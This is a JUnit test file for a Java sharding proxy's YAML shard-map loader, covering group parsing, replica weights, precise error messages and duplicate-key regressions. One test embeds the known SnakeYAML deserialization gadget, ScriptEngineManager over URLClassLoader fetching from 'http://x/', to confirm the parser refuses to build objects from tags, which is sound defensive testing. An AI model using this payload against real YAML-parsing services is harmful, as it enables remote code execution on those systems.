package io.shardgate.rules;

import io.shardgate.rules.yaml.ConfigException;
import io.shardgate.rules.yaml.YamlNode;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

class ShardMapTest {

    private static ShardMap parse(String yaml) {
        return ShardMap.fromYaml(YamlNode.parse("sharding.yaml", yaml), 1);
    }

    @org.junit.jupiter.api.Test
    void replicasMayCarryAWeight() {
        ShardMap m = parse("""
                groups:
                  g0:
                    master: 127.0.0.1:3316
                    replicas: [127.0.0.1:3317, { endpoint: 127.0.0.1:3318, weight: 3 }]
                """);
        GroupDef g = m.group("g0");
        assertThat(g.replicas()).containsExactly(Endpoint.parse("127.0.0.1:3317"), Endpoint.parse("127.0.0.1:3318"));
        assertThat(g.weights()).containsExactly(1, 3);
        assertThat(g.weight(Endpoint.parse("127.0.0.1:3318"))).isEqualTo(3);
        assertThat(g.weight(Endpoint.parse("127.0.0.1:9999"))).isEqualTo(1);
    }

    private static ConfigException rejected(String yaml) {
        ConfigException e = catchThrowableOfType(ConfigException.class, () -> parse(yaml));
        assertThat(e).as("expected a ConfigException for:%n%s", yaml).isNotNull();
        return e;
    }

    @Test
    void loadsAValidMapFromAFile(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("sharding.yaml");
        Files.writeString(file, """
                # groups are deliberately not in alphabetical order: the first declared is the default
                schema: userdb
                groups:
                  g2:
                    master: 10.0.0.21:3306
                    replicas:
                      - 10.0.0.22:3306
                      - "[fd00::23]:3307"
                  g1: { master: 10.0.0.11:3306, replicas: [10.0.0.12:3306] }
                  g0:
                    master: db0.example.com:3316
                """);
        ShardMap map = ShardMap.load(file, 7);
        assertThat(map.version()).isEqualTo(7);
        assertThat(map.schema()).isEqualTo("userdb");
        assertThat(map.groups().keySet()).containsExactly("g2", "g1", "g0");
        assertThat(map.defaultGroup()).isEqualTo("g2");
        GroupDef g2 = map.group("g2");
        assertThat(g2.name()).isEqualTo("g2");
        assertThat(g2.master()).isEqualTo(new Endpoint("10.0.0.21", 3306));
        assertThat(g2.replicas()).containsExactly(new Endpoint("10.0.0.22", 3306), new Endpoint("fd00::23", 3307));
        assertThat(map.group("g1").replicas()).containsExactly(new Endpoint("10.0.0.12", 3306));
        assertThat(map.group("g0").master()).isEqualTo(new Endpoint("db0.example.com", 3316));
        assertThat(map.group("g0").replicas()).isEmpty();
        assertThat(map.group("g9")).isNull();
        assertThatThrownBy(() -> map.groups().clear()).isInstanceOf(UnsupportedOperationException.class);
    }

    @Test
    void theSchemaIsOptional() {
        ShardMap map = parse("groups: { g0: { master: 127.0.0.1:3316 } }\n");
        assertThat(map.schema()).isNull();
        assertThat(map.defaultGroup()).isEqualTo("g0");
    }

    @Test
    void loadsTheShippedDefaultConfiguration() throws IOException {
        // conf/sharding.yaml of this repository, inlined so the test does not depend on the working directory
        ShardMap map = parse("""
                schema: userdb                    # the logical database clients USE
                groups:                           # replication groups: one master, its replicas
                  g0: { master: 127.0.0.1:3316, replicas: [127.0.0.1:3317, 127.0.0.1:3318] }
                  g1: { master: 127.0.0.1:3326, replicas: [127.0.0.1:3327, 127.0.0.1:3328] }
                """);
        assertThat(map.defaultGroup()).isEqualTo("g0");
        assertThat(map.group("g1").replicas()).hasSize(2);
    }

    /** Each case: the YAML, then the exact line, key path and message the DBA must see. */
    static Stream<Arguments> invalidMaps() {
        return Stream.of(
                Arguments.of("unknown key inside a group", """
                        schema: userdb
                        groups:
                          g1:
                            master: 10.0.0.11:3306
                            replica: 10.0.0.12:3306
                        """, 5, "groups.g1.replica",
                        "sharding.yaml:5: groups.g1.replica: unknown key; allowed here: master, replicas"),
                Arguments.of("unknown top-level key", """
                        schema: userdb
                        groups:
                          g1:
                            master: 10.0.0.11:3306

                        shard: 4
                        """, 6, "shard",
                        "sharding.yaml:6: shard: unknown key; allowed here: default_shard, groups, schema, shards, tables"),
                Arguments.of("missing master", """
                        groups:
                          g1:
                            replicas: [10.0.0.12:3306]
                        """, 3, "groups.g1.master",
                        "sharding.yaml:3: groups.g1.master: missing (required)"),
                Arguments.of("instance listed in two groups", """
                        groups:
                          g1:
                            master: 10.0.0.11:3306
                          g2:
                            master: 10.0.0.21:3306
                            replicas:
                              - 10.0.0.22:3306
                              - 10.0.0.11:3306
                        """, 8, "groups.g2.replicas[1]",
                        "sharding.yaml:8: groups.g2.replicas[1]: instance 10.0.0.11:3306 is already listed in group g1;"
                                + " an instance belongs to one group"),
                Arguments.of("endpoint without a port", """
                        groups:
                          g1:
                            master: 127.0.0.1
                        """, 3, "groups.g1.master",
                        "sharding.yaml:3: groups.g1.master: '127.0.0.1' is not host:port"),
                Arguments.of("endpoint with a port out of range", """
                        groups:
                          g1:
                            master: 10.0.0.11:3306
                            replicas: [10.0.0.12:3306, 10.0.0.13:99999]
                        """, 4, "groups.g1.replicas[1]",
                        "sharding.yaml:4: groups.g1.replicas[1]: port 99999 is not in 1..65535"),
                Arguments.of("replicas not a list", """
                        groups:
                          g1:
                            master: 10.0.0.11:3306
                            replicas: 10.0.0.12:3306
                        """, 4, "groups.g1.replicas",
                        "sharding.yaml:4: groups.g1.replicas: expected a list, found '10.0.0.12:3306'"),
                Arguments.of("replica weight below 1", """
                        groups:
                          g1:
                            master: 10.0.0.11:3306
                            replicas: [{ endpoint: 10.0.0.12:3306, weight: 0 }]
                        """, 4, "groups.g1.replicas[0].weight",
                        "sharding.yaml:4: groups.g1.replicas[0].weight: a replica weight must be at least 1"),
                Arguments.of("unknown key in a replica", """
                        groups:
                          g1:
                            master: 10.0.0.11:3306
                            replicas:
                              - { endpoint: 10.0.0.12:3306, wieght: 2 }
                        """, 5, "groups.g1.replicas[0].wieght",
                        "sharding.yaml:5: groups.g1.replicas[0].wieght: unknown key; allowed here: endpoint, weight"),
                Arguments.of("no groups", """
                        schema: userdb
                        groups: {}
                        """, 2, "groups",
                        "sharding.yaml:2: groups: at least one group is needed")
        );
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("invalidMaps")
    void rejectsAnInvalidMapNamingFileLineAndKey(String what, String yaml, int line, String key, String message) {
        ConfigException e = rejected(yaml);
        assertThat(e.file()).isEqualTo("sharding.yaml");
        assertThat(e.line()).isEqualTo(line);
        assertThat(e.key()).isEqualTo(key);
        assertThat(e).hasMessage(message);
    }

    @Test
    void theFileNameInMessagesIsThePathThatWasLoaded(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("prod-shards.yaml");
        Files.writeString(file, "groups:\n  g1:\n    master: 10.0.0.11:3306\n    slaves: []\n");
        assertThatThrownBy(() -> ShardMap.load(file, 1))
                .isInstanceOf(ConfigException.class)
                .hasMessage(file + ":4: groups.g1.slaves: unknown key; allowed here: master, replicas");
    }

    @Test
    void anUnreadableFileIsReported(@TempDir Path dir) {
        Path missing = dir.resolve("nope.yaml");
        assertThatThrownBy(() -> ShardMap.load(missing, 1))
                .isInstanceOf(ConfigException.class)
                .hasMessageStartingWith(missing + ":0: cannot read");
    }

    /*
     * Regression (found by this test, fixed in main code): duplicate keys are silently accepted. YamlNode.parse sets
     * LoaderOptions.setAllowDuplicateKeys(false), but that option is only enforced by SnakeYAML's *constructor*;
     * YamlNode only calls yaml.compose(), which keeps both entries, and YamlNode.entries() then puts them into a
     * LinkedHashMap where the second silently replaces the first. Here group g1 loads with master 10.0.0.99:3306
     * and the first definition is lost. Expected: ConfigException at line 5 (the second "g1") naming the key.
     */
    @Test
    void rejectsADuplicateKey() {
        ConfigException e = rejected("""
                schema: userdb
                groups:
                  g1:
                    master: 10.0.0.11:3306
                  g1:
                    master: 10.0.0.99:3306
                """);
        assertThat(e.line()).isEqualTo(5);
        assertThat(e).hasMessageContaining("sharding.yaml:5").hasMessageContaining("g1");
        assertThat(e.getMessage()).containsIgnoringCase("duplicate");
    }

    /* Regression (found by this test, fixed in main code), same as rejectsADuplicateKey, for a key inside a group: the second "master" wins. */
    @Test
    void rejectsADuplicateKeyInsideAGroup() {
        ConfigException e = rejected("""
                groups:
                  g1:
                    master: 10.0.0.11:3306
                    master: 10.0.0.12:3306
                """);
        assertThat(e.line()).isEqualTo(4);
        assertThat(e).hasMessageContaining("master");
        assertThat(e.getMessage()).containsIgnoringCase("duplicate");
    }

    @Test
    void invalidYamlIsReportedWithItsLine() {
        ConfigException e = rejected("""
                groups:
                  g1:
                    master: [10.0.0.11:3306
                  g2: {}
                """);
        assertThat(e.file()).isEqualTo("sharding.yaml");
        assertThat(e.line()).isBetween(3, 5);
        assertThat(e).hasMessageContaining("not valid YAML");
    }

    @Test
    void anEmptyFileIsReported() {
        ConfigException e = rejected("# nothing here\n");
        assertThat(e).hasMessage("sharding.yaml:1: the file is empty");
    }

    @Test
    void aRootThatIsNotAMappingIsReported() {
        ConfigException e = rejected("- g1\n- g2\n");
        assertThat(e.line()).isEqualTo(1);
        assertThat(e).hasMessageContaining("expected a mapping");
    }

    @Test
    void yamlTagsCannotConstructObjects() {
        // SnakeYAML is only used to compose nodes; a global tag must not instantiate anything
        ConfigException e = rejected("""
                groups:
                  g1:
                    master: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                """);
        assertThat(e.file()).isEqualTo("sharding.yaml");
        assertThat(e.line()).isEqualTo(3);
    }

    @Test
    void groupDefCopiesItsReplicaList() {
        List<Endpoint> replicas = new ArrayList<>(List.of(new Endpoint("a", 1)));
        GroupDef g = new GroupDef("g", new Endpoint("m", 1), replicas);
        replicas.add(new Endpoint("b", 2));
        assertThat(g.replicas()).containsExactly(new Endpoint("a", 1));
    }
}
